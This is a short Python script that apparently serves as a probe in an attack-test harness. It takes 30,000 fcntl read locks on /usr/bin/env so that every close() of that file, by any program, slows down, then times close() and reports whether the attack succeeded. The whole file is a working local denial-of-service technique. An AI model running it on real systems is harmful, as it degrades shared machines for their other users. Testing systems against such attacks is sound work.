"""Takes 30,000 locks on a file that all programs open, which the kernel walks at every close."""

import fcntl
import struct

import attacker

FILE = "/usr/bin/env"
LOCKS = 30_000
F_RDLCK = 0


def attack() -> None:
    with open(FILE, "rb") as file:
        for place in range(LOCKS):
            fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhqqi4x", F_RDLCK, 0, 2 * place, 1, 0))
        spent = []
        for _ in range(20):
            before = attacker.time.process_time()
            open(FILE, "rb").close()
            spent.append(attacker.time.process_time() - before)
        attacker.judge(min(spent) > 0.0005, f"closing takes {min(spent) * 1e6:.0f} µs")


attacker.play(attack)
